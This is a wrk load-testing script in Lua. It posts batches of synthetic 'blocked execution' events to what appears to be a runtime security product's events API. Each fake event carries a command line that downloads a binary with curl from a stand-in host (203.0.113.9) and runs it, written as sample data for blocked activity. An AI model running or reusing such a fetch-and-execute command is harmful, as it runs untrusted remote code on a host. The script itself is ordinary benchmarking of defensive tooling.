-- wrk script: POST batches of BATCH unique events (one instance per connection, seq increasing).
local counter = 0
local batch = tonumber(os.getenv("BATCH") or "100")
local token = os.getenv("TOKEN")
local functions = {"api", "worker", "cron", "checkout", "images", "search", "billing", "auth"}
local reasons = {"drift", "blocklist", "honeypot", "not_allowlisted", "interpreter_script"}

function setup(thread)
  counter = counter + 1
  thread:set("id", counter)
end

-- RUN (set by bench/server.sh per wrk run) keeps instance ids unique across runs: a run that
-- reused another's ids would post nothing but duplicates.
local run = os.getenv("RUN") or tostring(os.time())

function init(args)
  seq = 0
  instance = string.format("%s-%08x", run, id)
end

function request()
  local parts = {}
  for i = 1, batch do
    seq = seq + 1
    local fn = functions[(seq % #functions) + 1]
    local reason = reasons[(seq % #reasons) + 1]
    parts[i] = string.format('{"time":"%s","mode":"enforce","action":"blocked","reason":"%s","reasons":["%s"],' ..
      '"executable":"/tmp/x%d","argv":["/bin/sh","-c","curl -o /tmp/m http://203.0.113.9/m%d && /tmp/m"],"pid":%d,"ppid":1,' ..
      '"function_name":"%s","region":"eu-west-1","account_id":"123456789012","request_id":"r-%s-%d",' ..
      '"instance_id":"%s","seq":%d}',
      os.date("!%Y-%m-%dT%H:%M:%S.000Z"), reason, reason, seq % 97, seq, seq % 30000, fn, instance, seq, instance, seq)
  end
  return wrk.format("POST", "/api/v1/events", {["Authorization"] = "Bearer " .. token, ["Content-Type"] = "application/json"},
                    "[" .. table.concat(parts, ",") .. "]")
end

function response(status, headers, body)
  if status ~= 202 then
    io.stderr:write("unexpected status " .. status .. ": " .. body .. "\n")
  end
end
